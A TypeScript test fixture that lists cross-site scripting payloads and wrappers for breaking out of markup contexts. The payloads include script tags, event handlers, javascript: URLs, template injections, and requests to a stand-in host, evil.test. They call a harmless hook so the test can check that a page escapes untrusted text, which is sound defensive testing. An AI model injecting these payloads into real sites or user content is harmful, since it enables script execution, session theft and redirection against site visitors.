/** Texts that run as a script wherever a page mistakes them for markup, code or an address. */

/** Each calls `ran` in the test's page, or requests a host watched by the test. */
const vectors = [
  '<script>ran(1)</script>',
  '<img src=x onerror=ran(1)>',
  '<svg onload=ran(1)>',
  '<svg><script>ran(1)</script></svg>',
  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
  '<math><mtext><script>ran(1)</script></mtext></math>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<iframe src="javascript:parent.ran(1)"></iframe>',
  '<object data="javascript:ran(1)"></object>',
  '<embed src="javascript:ran(1)">',
  '<a href="javascript:ran(1)" autofocus onfocus=ran(1) tabindex=0>a</a>',
  '<input autofocus onfocus=ran(1)>',
  '<details open ontoggle=ran(1)><summary>a</summary></details>',
  '<video><source onerror=ran(1)></video>',
  '<body onload=ran(1)>',
  '<style>@import "https://evil.test/ran.css";</style>',
  '<link rel=stylesheet href="https://evil.test/ran.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/ran">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/ran"><button autofocus>a</button></form>',
  '<img src="https://evil.test/ran.png">',
  '{@html "<img src=x onerror=ran(1)>"}',
  '{{constructor.constructor("ran(1)")()}}',
  'javascript:ran(1)',
  'data:text/html,<script>parent.ran(1)</script>'
] as const;

/** Contexts in markup: between tags, in either quote, in a script. */
const wraps = [
  (vector: string) => vector,
  (vector: string) => `">${vector}`,
  (vector: string) => `'-->${vector}<!--`,
  (vector: string) => `\u2028</script></title></textarea>${vector}\${ran(1)}`
] as const;

export const scriptPayloads: readonly string[] = wraps.flatMap((wrap) => vectors.map(wrap));

/**
 * All in one text. A payload that ends in an open comment must come last, or before one that
 * closes it.
 */
export const allPayloads = [0, 1, 3, 2].flatMap((n) => vectors.map(wraps[n] ?? String)).join(' ');
